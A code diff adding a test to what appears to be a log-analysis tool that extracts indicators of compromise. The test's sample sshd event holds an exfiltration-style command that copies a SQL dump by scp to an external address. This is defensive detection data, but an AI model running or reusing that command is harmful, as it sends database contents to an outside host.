@@ -75,3 +75,11 @@ def test_no_story_of_a_rule_is_left_with_a_gap_in_it():
             hit = unusual(Unusual(rule.id, rule.title, (), (), rule.story, (Event(AT, "x", "a.log", 1, {}, **(FILLED if full else {})),)))
             (told,) = chapters(Actor(hits=[hit], entered=AT), Doings())
             assert "{" not in told.text, rule.file
+
+
+def test_where_things_were_sent_is_an_indicator_and_an_address_inside_is_none():
+    said = "COMMAND=/usr/bin/scp /tmp/c.sql drop@198.51.100.200:/in/ 10.0.0.7"
+    event = Event(AT, "sshd", "a.log", 1, {"command": said}, user="ann", host="db1")
+    hit = unusual(Unusual("x", "x", ("exfiltration",), (), "x", (event,)))
+    found = [one.value for one in indicators(Actor(hits=[hit], entered=AT, accounts={"ann"}), Doings()) if one.type == "ip"]
+    assert found == ["198.51.100.200"]
